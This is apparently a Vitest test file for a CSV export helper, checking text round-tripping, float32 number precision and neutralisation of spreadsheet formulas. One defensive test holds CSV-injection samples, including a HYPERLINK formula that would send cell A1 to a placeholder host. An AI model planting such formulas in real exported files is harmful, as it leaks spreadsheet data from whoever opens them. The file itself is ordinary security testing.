import Papa from 'papaparse'
import { expect, it } from 'vitest'
import { numberCell, textCell } from '../../../src/core/mosaic/csvCell.ts'

const texts = [
  '',
  'cat',
  'a,b',
  'an "eye"',
  '"',
  'two\r\nlines',
  'a\nb',
  ' spaces ',
  'a;b',
  '猫',
  'a=b',
  "'quoted'",
]

it('is read as what it was, whatever characters it has', () => {
  const line = texts.map(textCell).join()
  expect(Papa.parse(`${line}\r\n`, { delimiter: ',', newline: '\r\n' }).data[0]).toEqual(texts)
})

it.each(['=1+2', '+1', '-1', '@sum', '\tx', '\rx', '=HYPERLINK("http://x/?"&A1,"y")'])(
  'is no formula: %j',
  (text) => {
    const [[cell]] = Papa.parse(textCell(text), { delimiter: ',', newline: '\n' }).data as [[string]]
    expect(cell).toBe(`'${text}`)
  },
)

it('has so many digits that a float32 is the same again', () => {
  for (const value of [0.1, 1 / 3, 16777217, 1e-40, 3.4028234663852886e38, -7.25].map(Math.fround))
    expect(Math.fround(Number(numberCell(value)))).toBe(value)
  expect([Number.NaN, undefined, Infinity].map(numberCell)).toEqual(['', '', 'Infinity'])
})
